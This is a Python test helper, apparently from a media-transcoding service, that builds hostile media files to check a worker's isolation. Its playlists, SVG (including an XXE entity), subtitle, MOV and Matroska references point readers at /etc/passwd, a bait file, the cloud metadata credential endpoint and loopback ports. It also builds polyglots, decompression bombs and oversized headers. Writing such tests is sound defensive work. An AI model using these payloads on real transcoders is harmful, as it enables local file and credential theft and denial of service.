"""Hostile files: each wants to read what is not its own, to call somebody, or to use up the worker.

``FAMILIES`` makes them; the bait is what they try to get at. What they do is what the formats' fields permit
where nobody checks them; each builder names the clause or the reader that it aims at.
"""

from __future__ import annotations

import struct
import subprocess
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from cloudtranscode.media.tools.programs import find_tools
from support.boxes import box, boxes, edit, full
from support.clips import Clips


@dataclass(frozen=True, slots=True)
class Bait:
    """A file that holds a marker, and a port of the worker's machine on which somebody listens."""

    file: Path
    port: int

    @property
    def addresses(self) -> dict[str, str]:
        """What a playlist can name, by a word for each."""
        return {
            "file": f"file://{self.file}",
            "path": str(self.file),
            "passwd": "file:///etc/passwd",
            "metadata": "http://169.254.169.254/latest/meta-data/iam/security-credentials/",
            "loopback": f"http://127.0.0.1:{self.port}/secret.ts",
            "other_key": "http://127.0.0.1:8080/source2",
            "lent": "http://127.0.0.1:8080/text0",
            "concat": f"concat:http://127.0.0.1:{self.port}/head|file://{self.file}",
            "subfile": f"subfile,,start,0,end,64,,:{self.file}",
            "crypto": f"crypto+file://{self.file}",
            "tcp": f"tcp://127.0.0.1:{self.port}",
            "async": f"async:file:{self.file}",
        }


_RECIPES = {
    "attack.mkv": "-f lavfi -i testsrc2=size=160x90:rate=24:duration=1 -c:v libx264 -preset ultrafast",
    "attack.ivf": "-f lavfi -i testsrc2=size=160x90:rate=24:duration=1 -c:v libvpx -deadline realtime",
    "attack.gif": "-f lavfi -i testsrc2=size=80x60:rate=10:duration=1 -loop 0",
    "attack.jpg": "-f lavfi -i testsrc2=size=320x180:rate=1:duration=1 -frames:v 1 -update 1",
    "attached.mkv": "-i {mkv} -attach {text} -metadata:s:t mimetype=application/vnd.apple.mpegurl -c copy",
    "styled.mkv": "-i {mkv} -f ass -i {text} -attach {font} -metadata:s:t mimetype=font/ttf -c copy",
}


def _made(clips: Clips, name: str, words: bytes = b"") -> bytes:
    """A harmless file that an attack starts from; ``words`` is the text that goes into it."""
    path, text = clips.folder / name, clips.folder / f"{name}.txt"
    text.write_bytes(words)
    recipe = _RECIPES[name].format(mkv=clips.folder / "attack.mkv", text=text, font=text)
    argv = [str(find_tools().ffmpeg), "-nostdin", "-v", "error", "-y", *recipe.split(), str(path)]
    subprocess.run(argv, check=True, capture_output=True, timeout=60)
    return path.read_bytes()


# --- playlists and scripts: text that names other places ---------------------------------------------------


def _hls(address: str) -> str:
    return f"#EXTM3U\n#EXT-X-VERSION:3\n#EXT-X-TARGETDURATION:9\n#EXTINF:9,\n{address}\n#EXT-X-ENDLIST\n"


def _hls_master(address: str) -> str:
    return f"#EXTM3U\n#EXT-X-STREAM-INF:BANDWIDTH=1000000,RESOLUTION=320x180\n{address}\n"


def _hls_key(address: str) -> str:
    return _hls("http://127.0.0.1:8080/source").replace(
        "#EXTINF", f'#EXT-X-KEY:METHOD=AES-128,URI="{address}"\n#EXTINF'
    )


def _hls_map(address: str) -> str:
    return _hls("http://127.0.0.1:8080/source").replace("#EXTINF", f'#EXT-X-MAP:URI="{address}"\n#EXTINF')


def _dash(address: str) -> str:
    return (
        '<?xml version="1.0"?><MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" '
        'mediaPresentationDuration="PT9S">'
        '<Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1000000">'
        f"<BaseURL>{address}</BaseURL></Representation></AdaptationSet></Period></MPD>"
    )


def _concat(address: str) -> str:
    return f"ffconcat version 1.0\nfile '{address}'\nduration 9\n"


def _imf(address: str) -> str:
    return (
        '<?xml version="1.0"?><CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016">'
        "<Id>urn:uuid:11111111-1111-1111-1111-111111111111</Id><EditRate>24 1</EditRate>"
        f"<SegmentList><Segment><SequenceList><Path>{address}</Path></SequenceList></Segment></SegmentList>"
        "</CompositionPlaylist>"
    )


_PLAYLISTS: dict[str, Callable[[str], str]] = {
    "hls": _hls,
    "hls_master": _hls_master,
    "hls_key": _hls_key,
    "hls_map": _hls_map,
    "dash": _dash,
    "ffconcat": _concat,
    "imf": _imf,
}


def _playlists(_: Clips, bait: Bait) -> Iterator[tuple[str, bytes]]:
    for word, address in bait.addresses.items():
        for form, build in _PLAYLISTS.items():
            yield f"{form}_{word}", build(address).encode()


def _texts(_: Clips, bait: Bait) -> Iterator[tuple[str, bytes]]:
    file, port = bait.file, bait.port
    yield (
        "sdp",
        (
            f"v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video {port} RTP/AVP 96\n"
            "a=rtpmap:96 H264/90000\n"
        ).encode(),
    )
    yield "asx", f'<asx version="3.0"><entry><ref href="http://127.0.0.1:{port}/a.asf"/></entry></asx>'.encode()
    yield "asf_reference", f"[Reference]\r\nRef1=http://127.0.0.1:{port}/a.asf\r\n".encode()
    yield "real_text", f"rtsp://127.0.0.1:{port}/a.rm\n".encode()
    yield (
        "svg",
        (
            '<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
            '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">'
            f'<image xlink:href="file://{file}" width="64" height="64"/>'
            f'<image xlink:href="http://127.0.0.1:{port}/x.png" width="64" height="64"/><text>&x;</text></svg>'
        ).encode(),
    )
    yield "mvg", f"push graphic-context\nviewbox 0 0 64 64\nimage over 0,0 0,0 '{file}'\npop graphic-context\n".encode()
    yield "vobsub_index", b"# VobSub index file, v7 (do not modify this line!)\nsize: 720x576\nid: en, index: 0\n"
    yield "mpsub", f"FORMAT=TIME\nFILE=1,{file}\n".encode()
    yield "ansi_art", b"\x1b[31m" + b"text that a terminal would show\r\n" * 200
    yield "plain_text", b"Not a video, only words.\n" * 400
    yield (
        "subtitles_ass",
        (
            "[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name, Fontname\nStyle: Default,Arial\n[Events]\n"
            f"Format: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:09.00,Default,{{\\movie{file}}}x\n"
        ).encode(),
    )
    yield "lavfi_graph", f"movie={file},scale=2:2\n".encode()
    yield "ffmetadata", b";FFMETADATA1\ntitle=x\n"


def _styled(file: Path) -> str:
    return (
        "[Script Info]\nScriptType: v4.00+\n[V4+ Styles]\nFormat: Name, Fontname\nStyle: Default,Arial\n[Events]\n"
        f"Format: Layer, Start, End, Style, Text\nDialogue: 0,0:00:00.00,0:00:09.00,Default,{{\\movie{file}}}x\n"
    )


# --- containers that say that their data is somewhere else --------------------------------------------------


def _references(clips: Clips, bait: Bait) -> Iterator[tuple[str, bytes]]:
    plain = clips["plain.mp4"].read_bytes()
    url = bait.addresses["file"].encode() + b"\0"
    call = bait.addresses["loopback"].encode() + b"\0"
    for name, entry in (
        ("mov_url_file", full(b"url ", url)),
        ("mov_url_http", full(b"url ", call)),
        ("mov_alias", full(b"alis", _alias(bait.file))),
    ):
        references = full(b"dref", struct.pack(">I", 1) + entry)
        yield name, edit(plain, b"dref", _instead(references))
    movie = full(b"rdrf", b"url " + struct.pack(">I", len(call)) + call)
    yield "mov_reference_movie", box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"rmra", box(b"rmda", movie)))
    yield "avi_gab2_playlist", _gab2(clips, _hls(bait.addresses["file"]).encode())
    yield "mkv_next_file", _linked(clips, bait)
    yield "mkv_attached_playlist", _made(clips, "attached.mkv", _hls(bait.addresses["file"]).encode())
    yield "mkv_fonts_and_ass", _made(clips, "styled.mkv", _styled(bait.file).encode())


def _instead(made: bytes) -> Callable[[bytes], bytes]:
    """Replace whatever there is."""
    return lambda _: made


def _alias(file: Path) -> bytes:
    """A record of QuickTime's alias manager: volume, file name, and the whole path as its item of type 2 and 18."""
    name, path = file.name.encode()[:63], str(file).encode()
    head = b"\0" * 10 + b"\x04root".ljust(28, b"\0") + b"\0" * 12
    head += bytes([len(name)]) + name.ljust(63, b"\0") + b"\0" * 16 + struct.pack(">hh", 1, 1) + b"\0" * 16
    items = b"".join(struct.pack(">hh", kind, len(path)) + path + b"\0" * (len(path) & 1) for kind in (2, 18))
    return head + items + struct.pack(">hh", -1, 0)


def _gab2(clips: Clips, playlist: bytes) -> bytes:
    """An AVI whose subtitle stream is a playlist: libavformat/avidec.c opens that stream with a demuxer of its own."""
    words = b"GAB2\0" + struct.pack("<HI", 2, 2) + b"x\0" + struct.pack("<HI", 4, len(playlist)) + playlist
    stream = b"txts" + b"\0" * 16 + struct.pack("<IIII", 1, 1, 0, 1) + b"\0" * 20
    header = _chunk(b"avih", struct.pack("<14I", 40000, 0, 0, 0, 1, 0, 2, 0, 320, 180, 0, 0, 0, 0))
    video = b"vidsMJPG" + b"\0" * 12 + struct.pack("<IIII", 1, 25, 0, 1) + b"\0" * 20
    picture = struct.pack("<IiiHH4sIIIII", 40, 320, 180, 1, 24, b"MJPG", 0, 0, 0, 0, 0)
    lists = _list(b"strl", _chunk(b"strh", video) + _chunk(b"strf", picture))
    lists += _list(b"strl", _chunk(b"strh", stream) + _chunk(b"strf", b""))
    frame = _made(clips, "attack.jpg")
    movie = _list(b"movi", _chunk(b"01tx", words) + b"".join(_chunk(b"00dc", frame) for _ in range(10)))
    return _chunk(b"RIFF", b"AVI " + _list(b"hdrl", header + lists) + movie)


def _chunk(kind: bytes, body: bytes) -> bytes:
    return kind + struct.pack("<I", len(body)) + body + b"\0" * (len(body) & 1)


def _list(kind: bytes, body: bytes) -> bytes:
    return _chunk(b"LIST", kind + body)


def _linked(clips: Clips, bait: Bait) -> bytes:
    """Matroska's linked segments: the name of the program that wrote it becomes NextFilename. RFC 9559, 17."""
    data = _made(clips, "attack.mkv")
    at = data.index(b"\x4d\x80")
    size = data[at + 2] & 0x7F
    name = str(bait.file).encode()[: size - 1].ljust(size - 1, b"/")
    return data[:at] + b"\x3e\x83\xbb" + bytes([0x80 | (size - 1)]) + name + data[at + 3 + size :]


# --- headers that ask for too much ---------------------------------------------------------------------------


def _headers(clips: Clips, _: Bait) -> Iterator[tuple[str, bytes]]:
    plain = clips["plain.mp4"].read_bytes()
    jpeg = _made(clips, "attack.jpg")
    huge = jpeg.replace(_frame_header(jpeg), _frame_header(jpeg)[:5] + struct.pack(">HH", 65500, 65500))
    yield "jpeg_65500", huge
    yield "mjpeg_65500", huge * 10
    yield "h264_16384", _h264(1024, 1024)
    yield "h264_65536", _h264(4096, 4096)
    yield "h264_16384_wide", _h264(1024, 1)
    yield "y4m_100000", b"YUV4MPEG2 W100000 H100000 F25:1 C420jpeg\nFRAME\n" + b"\0" * 4096
    yield "y4m_1e9_fps", b"YUV4MPEG2 W16 H16 F1000000000:1 C420jpeg\n" + (b"FRAME\n" + bytes(384)) * 50
    yield "y4m_pixels_1_to_30000", b"YUV4MPEG2 W16 H16 F25:1 A30000:1 C420jpeg\n" + (b"FRAME\n" + bytes(384)) * 50
    yield "gif_65535", b"GIF89a" + struct.pack("<HHBBB", 65535, 65535, 0x80, 0, 0) + b"\0" * 6 + _gif_frame()
    yield "png_huge", _png(2**31 - 1, 2**31 - 1, b"")
    yield "bmp_30000", b"BM" + struct.pack("<IHHIIiiHHIIiiII", 54, 0, 0, 54, 40, 30000, 30000, 1, 24, 0, 0, 0, 0, 0, 0)
    yield (
        "tiff_65535",
        b"II*\0\x08\0\0\0" + struct.pack("<H", 3) + _tiff(256, 65535) + _tiff(257, 65535) + _tiff(258, 8),
    )
    yield "webp_16384", b"RIFF" + struct.pack("<I", 22) + b"WEBPVP8L" + struct.pack("<IBI", 5, 0x2F, 0x0FFFFFFF) + b"\0"
    yield "ivf_vp8_16383", _vp8(clips)
    yield (
        "mp4_65535",
        edit(plain, b"tkhd", lambda body: box(b"tkhd", body[:-8] + struct.pack(">II", *[0xFFFF0000] * 2))),
    )
    yield "avi_32767", _raw_avi(32767)
    yield "wav_1_hz", _wav(1, 2, 44_100)
    yield "wav_4_ghz", _wav(2**32 - 1, 2, 44_100)
    yield "wav_65535_channels", _wav(48_000, 65_535, 65_535 * 20)
    yield "wav_64_channels", _wav(48_000, 64, 64 * 4800)


def _frame_header(jpeg: bytes) -> bytes:
    at = jpeg.index(b"\xff\xc0")
    return jpeg[at : at + 9]


def _h264(wide: int, high: int) -> bytes:
    """A stream whose parameter set promises pictures of so many macroblocks. ITU-T H.264, 7.3.2.1."""
    fields = [0, 0, 0, 0, 1]  # id, frame number, count type 0 and its length, one reference
    sps = "".join([*map(_golomb, fields), "0", _golomb(wide - 1), _golomb(high - 1), "1", "1", "0", "0", "1"])
    pps = "".join([_golomb(0), _golomb(0), "00", _golomb(0), _golomb(0), _golomb(0), "000", _golomb(0) * 3, "0001"])
    slices = "".join([_golomb(0), _golomb(7), _golomb(0), "0000", _golomb(0), "0000", "00", _golomb(0), "1" * 400])
    sets = b"\0\0\0\1\x67\x42\x00\x3e" + _bytes(sps) + b"\0\0\0\1\x68" + _bytes(pps)
    return sets + (b"\0\0\0\1\x65" + _bytes(slices)) * 30


def _golomb(value: int) -> str:
    bits = f"{value + 1:b}"
    return "0" * (len(bits) - 1) + bits


def _bytes(bits: str) -> bytes:
    bits += "0" * (-len(bits) % 8)
    return int(bits, 2).to_bytes(len(bits) // 8)


def _gif_frame() -> bytes:
    return b"\x2c" + struct.pack("<HHHHB", 0, 0, 65535, 65535, 0) + b"\x02\x02\x4c\x01\0;"


def _png(width: int, height: int, pixels: bytes) -> bytes:
    parts = ((b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 6, 0, 0, 0)), (b"IDAT", pixels), (b"IEND", b""))
    chunks = (
        struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body)) for kind, body in parts
    )
    return b"\x89PNG\r\n\x1a\n" + b"".join(chunks)


def _tiff(tag: int, value: int) -> bytes:
    return struct.pack("<HHII", tag, 4, 1, value)


def _vp8(clips: Clips) -> bytes:
    """The first picture says that all are of the largest size. RFC 6386, 9.1."""
    data = _made(clips, "attack.ivf")
    at = data.index(b"\x9d\x01\x2a") + 3
    size = struct.pack("<HH", 16383, 16383)
    return data[:12] + size + data[16:at] + size + data[at + 4 :]


def _raw_avi(side: int) -> bytes:
    header = _chunk(b"avih", struct.pack("<14I", 40000, 0, 0, 0, 1, 0, 1, 0, side, side, 0, 0, 0, 0))
    stream = b"vids\0\0\0\0" + b"\0" * 12 + struct.pack("<IIII", 1, 25, 0, 1) + b"\0" * 20
    picture = struct.pack("<IiiHHIIIIII", 40, side, side, 1, 24, 0, 0, 0, 0, 0, 0)
    lists = _list(b"strl", _chunk(b"strh", stream) + _chunk(b"strf", picture))
    return _chunk(b"RIFF", b"AVI " + _list(b"hdrl", header + lists) + _list(b"movi", _chunk(b"00db", bytes(30_000))))


def _wav(rate: int, channels: int, samples: int) -> bytes:
    """Silence of 16 bits in ``samples`` values of all channels together."""
    block = 2 * channels & 0xFFFF
    words = struct.pack("<HHIIHH", 1, channels, rate, rate * 4 & 0xFFFFFFFF, block, 16)
    return _chunk(b"RIFF", b"WAVE" + _chunk(b"fmt ", words) + _chunk(b"data", bytes(2 * samples)))


# --- times and counts beyond reason --------------------------------------------------------------------------


def _times_and_counts(clips: Clips, _: Bait) -> Iterator[tuple[str, bytes]]:
    plain = clips["plain.mp4"].read_bytes()
    yield "mp4_100_years", edit(plain, b"mdhd", lambda body: box(b"mdhd", body[:12] + struct.pack(">I", 1) + body[16:]))
    yield "mp4_1e9_fps", edit(plain, b"mdhd", lambda body: box(b"mdhd", body[:12] + b"\x7f\xff\xff\xff" + body[16:]))
    yield (
        "mp4_frames_of_years",
        edit(plain, b"stts", _instead(full(b"stts", struct.pack(">III", 1, 72, 2**31 - 1)))),
    )
    for count in (50, 300_000):
        edits = full(b"elst", struct.pack(">I", count) + struct.pack(">IiI", 3000, 0, 0x10000) * count)
        yield f"mp4_{count}_edits", edit(plain, b"elst", _instead(edits))
    yield "mp4_5000_tracks", _tracks(plain, 5000)
    yield "mp4_300_tracks", _tracks(plain, 300)
    table = full(b"stsz", struct.pack(">II", 1, 2**32 - 1))
    runs = full(b"stsc", struct.pack(">IIII", 1, 1, 2**31 - 1, 1))
    yield "mp4_4e9_samples", edit(edit(plain, b"stsz", _instead(table)), b"stsc", _instead(runs))
    yield "mp4_table_without_end", edit(plain, b"stts", _instead(full(b"stts", struct.pack(">I", 2**32 - 1))))
    gif = bytearray(_made(clips, "attack.gif"))
    at = -1
    while (at := gif.find(b"\x21\xf9\x04", at + 1)) >= 0:
        gif[at + 4 : at + 6] = b"\0\0"
    yield "gif_no_delay_endless", bytes(gif)
    yield "ts_one_packet_repeated", (b"\x47\x40\x00\x10" + b"\xff" * 184) * 20_000
    yield "ogg_3000_streams", b"".join(_ogg_page(number) for number in range(3000))


def _tracks(plain: bytes, count: int) -> bytes:
    made = b""
    for kind, body in boxes(plain):
        if kind != b"moov":
            made += box(kind, body)
            continue
        inner = boxes(body)
        track = next(part for name, part in inner if name == b"trak")
        made += box(b"moov", b"".join(box(*part) for part in inner) + box(b"trak", track) * count)
    return made


def _ogg_page(serial: int) -> bytes:
    """A page that begins a stream of Vorbis; its checksum is left out, as many readers do. RFC 3533, 6."""
    body = b"\x01vorbis" + struct.pack("<IBIiiiBB", 0, 2, 44_100, 0, 0, 0, 0xB8, 1)
    head = b"OggS" + struct.pack("<BBqIIIBB", 0, 2, 0, serial, 0, 0, 1, len(body))
    return head + body


# --- bombs -----------------------------------------------------------------------------------------------------


def _bombs(clips: Clips, _: Bait) -> Iterator[tuple[str, bytes]]:
    zeros = zlib.compress(bytes(64 << 20), 9)
    yield "png_bomb", _png(30_000, 30_000, zeros)
    movie = box(b"dcom", b"zlib") + box(b"cmvd", struct.pack(">I", 2**31 - 1) + zeros)
    yield "mov_compressed_header", box(b"ftyp", b"qt  \0\0\0\0qt  ") + box(b"moov", box(b"cmov", movie))
    yield "mkv_nested", b"\x1a\x45\xdf\xa3\x80" + b"\x18\x53\x80\x67\x01\xff\xff\xff\xff\xff\xff\xff" * 20_000
    yield "mp4_nested", b"".join(struct.pack(">I4s", 8 * (20_000 - depth), b"moov") for depth in range(20_000))
    yield "id3_of_256_mb", b"ID3\x04\0\0\x7f\x7f\x7f\x7f" + bytes(5000)
    yield "flac_picture_of_4_gb", b"fLaC\x06\xff\xff\xff" + struct.pack(">II", 3, 2**32 - 1) + bytes(5000)
    words = b"title=" + b"\1" * (15 << 20)
    comment = struct.pack("<II", 0, 1) + struct.pack("<I", len(words)) + words
    info = b"\0\0\0\x22" + struct.pack(">HH", 4096, 4096) + bytes(6) + b"\x0a\xc4\x42\xf0" + bytes(20)
    yield "flac_flood_of_words", b"fLaC" + info + b"\x84" + struct.pack(">I", len(comment))[1:] + comment + bytes(5000)
    yield "mp4_metadata_of_2_gb", _metadata(clips["plain.mp4"].read_bytes())


def _metadata(plain: bytes) -> bytes:
    item = struct.pack(">I4sII", 2**31 - 16, b"data", 1, 0) + b"x" * 100
    words = full(b"meta", box(b"ilst", struct.pack(">I4s", 2**31 - 8, b"\xa9nam") + item))
    return edit(plain, b"udta", _instead(box(b"udta", words)))


# --- one thing to one program, another to the next ----------------------------------------------------------


def _polyglots(clips: Clips, bait: Bait) -> Iterator[tuple[str, bytes]]:
    playlist = _hls(bait.addresses["file"]).encode()
    yield "clip_then_playlist", clips["plain.mp4"].read_bytes() + playlist
    yield "playlist_then_clip", playlist + clips["plain.mp4"].read_bytes()
    yield "gif_then_playlist", b"GIF89a" + playlist
    yield "mp3_of_playlist", b"ID3\x04\0\0\0\0\0\0" + playlist * 50
    yield "wav_of_text", b"RIFF" + struct.pack("<I", 5000) + b"WAVE" + playlist * 50
    yield "ts_with_playlist", b"\x47" + playlist.ljust(187, b"\xff") * 1
    yield "comment_then_concat", b"# " + b"\n# " * 50 + b"\n" + _concat(bait.addresses["file"]).encode()
    yield "mark_then_playlist", b"\xef\xbb\xbf" + playlist


FAMILIES: dict[str, Callable[[Clips, Bait], Iterator[tuple[str, bytes]]]] = {
    "playlists": _playlists,
    "texts": _texts,
    "references": _references,
    "headers": _headers,
    "times and counts": _times_and_counts,
    "bombs": _bombs,
    "polyglots": _polyglots,
}
"""Every attack, name and content, by what it abuses."""
